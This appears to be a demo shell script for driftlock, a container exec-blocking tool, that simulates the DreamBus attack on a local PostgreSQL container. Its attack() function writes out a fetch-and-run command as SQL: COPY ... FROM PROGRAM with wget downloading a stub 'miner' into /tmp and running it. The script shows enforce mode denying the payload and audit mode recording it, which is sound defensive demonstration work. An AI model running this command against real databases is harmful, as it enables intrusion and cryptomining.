#!/usr/bin/env bash
# The DreamBus attack on PostgreSQL, stopped by driftlock.
#
#   ./scripts/demo.sh          (as root, on Debian 12)
#
# Installs what it needs (runc, containerd, umoci, debootstrap, busybox-static, jq,
# postgresql-client, gcc), builds driftlock, builds a PostgreSQL image offline from Debian's
# packages (cached in /var/cache/driftlock-demo), and, in a private mount namespace with its
# own containerd, runs it through driftlock-runtime with a weak superuser password on
# 127.0.0.1. Then it plays the attacker: psql in, COPY ... FROM PROGRAM downloads a "miner"
# from a loopback HTTP server into /tmp and runs it. The exec is denied; the audit record
# shows the chain postgres -> sh -> payload. Then the same in audit mode.
set -euo pipefail
[ "$(id -u)" = 0 ] || { echo "demo.sh: run as root" >&2; exit 1; }
cd "$(dirname "$0")/.."
command -v cargo >/dev/null || { echo "demo.sh: install Rust 1.85+ first (https://rustup.rs)" >&2; exit 1; }
need=()
for t in runc containerd umoci debootstrap jq psql cc; do command -v "$t" >/dev/null || need+=("$t"); done
command -v busybox >/dev/null || need+=(busybox-static)
if [ ${#need[@]} -gt 0 ]; then
  pkgs=()
  for t in "${need[@]}"; do
    case $t in psql) pkgs+=(postgresql-client) ;; cc) pkgs+=(gcc libc6-dev) ;; *) pkgs+=("$t") ;; esac
  done
  echo "installing ${pkgs[*]} ..."
  apt-get update -q >/dev/null && DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends "${pkgs[@]}" >/dev/null
fi
cargo build --release -q
cache=${DRIFTLOCK_DEMO_CACHE:-/var/cache/driftlock-demo}
mkdir -p "$cache"
if [ ! -s "$cache/postgres.tar" ]; then
  echo "building the PostgreSQL image (debootstrap minbase + postgresql; once, about a minute) ..."
  testdata/build-postgres-image.sh "$cache/postgres.tar"
fi
if [ ! -s "$cache/payload" ]; then
  printf '#include <stdio.h>\nint main(void){puts("kdevtmpfsi: mining");return 0;}\n' > "$cache/payload.c"
  cc -static -O2 -o "$cache/payload" "$cache/payload.c"
fi
inner=$(mktemp)
trap 'rm -f "$inner"' EXIT
cat > "$inner" <<'INNER'
set -uo pipefail
bin=$1 cache=$2
t=$(mktemp -d /tmp/driftlock-demo.XXXXXX)
mount -t tmpfs -o size=2g tmpfs "$t"
mkdir -p "$t"/{root,state,dl,www}
cp "$cache/payload" "$t/www/kdevtmpfsi"
cat > "$t/config.toml" <<EOT
version = 2
root = "$t/root"
state = "$t/state"
disabled_plugins = ["io.containerd.grpc.v1.cri"]
[grpc]
  address = "$t/c.sock"
[ttrpc]
  address = "$t/c.sock.ttrpc"
EOT
say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
# The newest exec record (coverage records, "kind":"coverage", report late mounts).
last_exec() { jq -c 'select(.kind == null)' "$t/dl/audit.jsonl" | tail -n 1; }
# The operator's policy: containers of the namespace "tuning" run in audit mode. (A
# container's own driftlock.io/mode annotation is ignored: its author may be the attacker.)
printf '[[namespace]]\nname = "tuning"\nmode = "audit"\n' > "$t/dl/config.toml"
"$bin/driftlock" daemon --log-level warn --socket "$t/dl/d.sock" --state-dir "$t/dl/state" \
  --audit-log "$t/dl/audit.jsonl" --config "$t/dl/config.toml" >/dev/null &
dpid=$!
DRIFTLOCK_SOCKET=$t/dl/d.sock containerd --config "$t/config.toml" >"$t/containerd.log" 2>&1 &
cpid=$!
busybox httpd -f -p 127.0.0.1:18080 -h "$t/www" &
hpid=$!
# containerd's CRI namespace: there the pods' Kubernetes annotations are the kubelet's
# (this demo writes them as the kubelet would; in other namespaces they name nothing).
ctr="ctr -a $t/c.sock -n k8s.io"
cleanup() {
  for id in $($ctr tasks ls -q 2>/dev/null); do $ctr tasks kill -s SIGKILL "$id" >/dev/null 2>&1; done
  sleep 0.5
  for id in $($ctr containers ls -q 2>/dev/null); do $ctr tasks delete -f "$id" >/dev/null 2>&1; $ctr containers delete "$id" >/dev/null 2>&1; done
  kill "$hpid" "$cpid" "$dpid" 2>/dev/null; wait 2>/dev/null
  umount -l "$t"; rmdir "$t"
}
trap cleanup EXIT
while [ ! -S "$t/c.sock" ] || [ ! -S "$t/dl/d.sock" ]; do sleep 0.05; done
$ctr images import --base-name localhost/demo/postgres "$cache/postgres.tar" >/dev/null </dev/null
img=localhost/demo/postgres:latest
export PGPASSWORD=postgres PGCONNECT_TIMEOUT=2
psql_=(psql -h 127.0.0.1 -p 55432 -U postgres -X -q)

start_pg() {
  local id=$1; shift
  $ctr run -d --net-host --runc-binary "$bin/driftlock-runtime" \
    --annotation io.kubernetes.cri.image-name=docker.io/library/postgres:15 "$@" "$img" "$id" >/dev/null </dev/null
  for _ in $(seq 100); do "${psql_[@]}" -c 'select 1' >/dev/null 2>&1 && return 0; sleep 0.2; done
  echo "postgres did not start" >&2; return 1
}
attack() {
  "${psql_[@]}" <<'SQL'
CREATE TABLE IF NOT EXISTS cmd_exec(cmd_output text);
COPY cmd_exec FROM PROGRAM 'wget -q -O /tmp/kdevtmpfsi http://127.0.0.1:18080/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi';
SELECT cmd_output AS "what the payload printed" FROM cmd_exec;
SQL
}

say "PostgreSQL in a container, armed by driftlock at creation (enforce mode)"
start_pg pg-1 || exit 1
"$bin/driftlock" status --socket "$t/dl/d.sock"

say "the attacker: psql with the weak password, then COPY ... FROM PROGRAM (wget a miner into /tmp, chmod +x, run)"
attack

say "the audit record, outside the container"
sleep 0.3
enforce_verdict=$(last_exec | jq -r '"\(.unit) \(.verdict) \(.path)"')
last_exec | jq '{time, unit, image_name, verdict, reason, path, sha256, chain: [.chain[] | "\(.pid) \(.comm): \(.cmdline | join(" ") | .[0:70])"]}'

say "the same container in the namespace \"tuning\", which the operator's rule puts in audit mode: the payload runs, the record says would-deny"
$ctr tasks kill -s SIGKILL pg-1 >/dev/null; sleep 1; $ctr tasks delete -f pg-1 >/dev/null 2>&1; $ctr containers delete pg-1 >/dev/null
start_pg pg-2 --annotation io.kubernetes.cri.sandbox-namespace=tuning || exit 1
attack
sleep 0.3
audit_verdict=$(last_exec | jq -r '"\(.unit) \(.verdict) \(.path)"')
last_exec | jq -c '{unit, verdict, path, chain: [.chain[] | .comm]}'
if [ "$enforce_verdict" = "pg-1 deny /tmp/kdevtmpfsi" ] && [ "$audit_verdict" = "pg-2 would-deny /tmp/kdevtmpfsi" ]; then
  say "demo: as expected (enforce denied the payload, audit recorded would-deny)"
else
  echo "demo: UNEXPECTED outcome: enforce '$enforce_verdict', audit '$audit_verdict'" >&2
  exit 1
fi
INNER
unshare -m --propagation private bash "$inner" "$PWD/target/release" "$cache"
